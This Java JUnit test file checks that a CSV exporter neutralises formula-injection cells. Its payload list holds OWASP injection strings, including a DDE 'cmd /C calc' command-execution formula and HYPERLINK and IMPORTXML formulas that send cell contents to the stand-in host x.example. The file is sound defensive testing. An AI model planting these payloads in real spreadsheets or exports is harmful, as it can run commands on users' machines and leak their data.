package id.serambi.common;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.StringReader;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** Issue 13, finding 5: the OWASP CSV-injection payloads, read back as Excel would with ',' and with ';'. */
class CsvExportTest {

    /** OWASP's CSV injection payloads and the separators an Indonesian Excel splits on. */
    static final List<String> PAYLOADS = List.of(
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\")",
            "+1+1", "-1+1", "@SUM(1+1)", "=1+1",
            "%0A=1+1", "\n=1+1", "a\n=1+1", "a\r\n-2+3",
            "\t=1+1", "\r=1+1", "\t", "\r",
            "x;=1+1", "x,=1+1", "x; =1+1", "x;\"=1+1\"", "x ; @SUM(A1)", "Sekolah;+1;-1",
            " =1+1", "\"=1+1\"", "\u00A0=1+1",
            "\uFF1D1+1", "\uFF0B1+1", "\uFF0D1+1", "\uFF20SUM(1+1)",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
            "=IMPORTXML(CONCAT(\"http://x.example?v=\", CONCATENATE(A2:E2)), \"//a\")");

    @Test
    void noPieceOfACellStartsAFormulaWhateverTheSeparator() {
        List<Object[]> rows = new ArrayList<>();
        for (String payload : PAYLOADS) {
            rows.add(new Object[] { payload, -5, 3.25, new BigDecimal("-0.5"), true, null });
        }
        String csv = CsvExport.write(List.of("cell", "number", "double", "decimal", "flag", "nothing"), rows);
        assertTrue(csv.startsWith("\uFEFFcell,number,double,decimal,flag,nothing\r\n"), csv);

        // Read as Excel with ',' separators: each payload cell, once read, begins with ' (or holds only safe text).
        List<CSVRecord> records;
        try {
            records = CSVFormat.EXCEL.parse(new StringReader(csv.substring(1))).getRecords();
        } catch (java.io.IOException e) {
            throw new AssertionError(e);
        }
        assertEquals(PAYLOADS.size() + 1, records.size());
        for (int i = 0; i < PAYLOADS.size(); i++) {
            CSVRecord r = records.get(i + 1);
            assertSafe(r.get(0), PAYLOADS.get(i));
            assertEquals("-5", r.get(1), "a negative number stays a number");
            assertEquals("3.25", r.get(2));
            assertEquals("-0.5", r.get(3));
            assertEquals("true", r.get(4));
            assertEquals("", r.get(5));
        }

        // Read as an Indonesian Excel does: every line split on ';' and on ',' with quotes ignored, and every line
        // break a new row. No piece may start a formula.
        for (String line : csv.substring(1).split("\r\n|\r|\n", -1)) {
            for (String piece : line.split("[;,]", -1)) {
                String bare = piece.replaceFirst("^[ \u00A0\"]+", "");
                assertFalse(!bare.isEmpty() && "=+-@\uFF1D\uFF0B\uFF0D\uFF20\t".indexOf(bare.charAt(0)) >= 0
                        && !piece.matches("^-?\\d+(\\.\\d+)?$"), "the piece '" + piece + "' of line '" + line + "' starts a formula");
            }
        }
    }

    @Test
    void neutralisesEachPieceAndLeavesOrdinaryTextAlone() {
        assertEquals("'=1+1", CsvExport.neutralise("=1+1"));
        assertEquals("x;'=1+1", CsvExport.neutralise("x;=1+1"));
        assertEquals("x,'=1+1", CsvExport.neutralise("x,=1+1"));
        assertEquals("x;' =1+1", CsvExport.neutralise("x; =1+1"));
        assertEquals("'-1+1", CsvExport.neutralise("-1+1"));
        assertEquals("'\t=1", CsvExport.neutralise("\t=1"));
        assertEquals("a\n'=1+1", CsvExport.neutralise("a\n=1+1"));
        assertEquals("'\uFF1D1+1", CsvExport.neutralise("\uFF1D1+1"));
        assertEquals("'+6281234567890", CsvExport.neutralise("+6281234567890"));
        for (String ordinary : List.of("SMP Negeri 1 Banjarbaru", "Siti Nurhaliza Ñ Ä 中", "Jl. A. Yani km 5, Banjarbaru",
                "Kutu Buku 7", "2026-11-05 11:00", "a-b=c", "nadia@example.id", "%0A=1+1", "")) {
            assertEquals(ordinary, CsvExport.neutralise(ordinary));
        }
    }

    private static void assertSafe(String cell, String payload) {
        String bare = cell.replaceFirst("^[ \u00A0\"]+", "");
        boolean dangerous = !bare.isEmpty() && "=+-@\uFF1D\uFF0B\uFF0D\uFF20\t\r".indexOf(bare.charAt(0)) >= 0;
        assertFalse(dangerous, "payload " + payload + " came out as " + cell);
        assertEquals(payload.replace("'", ""), cell.replace("'", ""), "only quotes are added");
    }
}
